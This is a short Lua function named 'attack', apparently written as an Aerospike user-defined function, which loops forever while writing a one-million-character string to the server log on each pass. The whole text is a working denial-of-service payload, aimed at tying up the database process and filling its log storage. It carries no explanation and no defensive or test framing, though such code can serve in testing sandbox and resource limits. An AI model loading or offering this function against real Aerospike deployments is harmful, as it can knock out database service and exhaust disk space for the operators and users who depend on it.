function attack(rec)
  while true do aerospike:log(2, ("x"):rep(1000000)) end
end
